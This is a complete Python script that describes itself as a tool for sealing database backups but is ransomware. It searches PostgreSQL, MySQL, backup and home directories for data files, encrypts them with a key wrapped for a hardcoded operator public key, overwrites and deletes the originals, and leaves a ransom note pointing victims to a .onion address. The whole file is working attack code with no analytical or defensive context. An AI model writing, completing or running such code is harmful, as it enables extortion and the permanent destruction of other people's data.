#!/usr/bin/env python3
"""Seal database backups and data files in place with AES-256-GCM.

Walks the usual PostgreSQL/MySQL data and backup locations, encrypts every
matching file to <name>.sealed, removes the plaintext original and leaves
RECOVER_YOUR_DATA.txt in each directory it touched. The key is wrapped for
the operator's public key and never stored on this host.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("sealer")

ROOTS = ["/var/lib/postgresql", "/var/lib/mysql", "/var/backups", "/srv/db-backups", str(Path.home())]
SUFFIXES = {".sql", ".dump", ".gz", ".bak", ".ibd", ".frm", ".sqlite", ".db", ".tar", ".zst"}
OPERATOR_PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----"""
NOTE = """Your database files and backups in this directory have been sealed.
Send the contents of KEY.bin and your host ID to restore@dbsealer.onion
to receive the recovery tool. Do not rename or modify *.sealed files.
"""


def wrap_key(key):
    pub = serialization.load_pem_public_key(OPERATOR_PUB)
    return pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                         algorithm=hashes.SHA256(), label=None))


def seal_file(aead, path):
    nonce = secrets.token_bytes(12)
    data = path.read_bytes()
    sealed = path.with_name(path.name + ".sealed")
    sealed.write_bytes(nonce + aead.encrypt(nonce, data, path.name.encode()))
    with open(path, "r+b") as fh:  # overwrite plaintext before unlinking
        fh.write(b"\0" * min(len(data), 1 << 20))
    os.remove(path)


def candidates(roots, max_bytes):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: None):
            dirnames[:] = [d for d in dirnames if not d.startswith((".cache", "proc"))]
            for fname in filenames:
                p = Path(dirpath) / fname
                if p.suffix.lower() in SUFFIXES and not fname.endswith(".sealed"):
                    try:
                        if p.stat().st_size <= max_bytes:
                            yield p
                    except OSError:
                        continue


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", action="append", help="override the default roots")
    ap.add_argument("--max-gb", type=float, default=8.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(key)
    wrapped = wrap_key(key)
    del key
    touched = set()
    count = 0
    for path in candidates(args.root or ROOTS, int(args.max_gb * 2**30)):
        try:
            seal_file(aead, path)
            touched.add(path.parent)
            count += 1
        except (OSError, MemoryError) as exc:
            log.debug("skip %s: %s", path, exc)
    for directory in touched:
        try:
            (directory / "RECOVER_YOUR_DATA.txt").write_text(NOTE)
            (directory / "KEY.bin").write_bytes(wrapped)
        except OSError:
            pass
    print(f"sealed {count} files in {len(touched)} directories")
    return 0


if __name__ == "__main__":
    sys.exit(main())
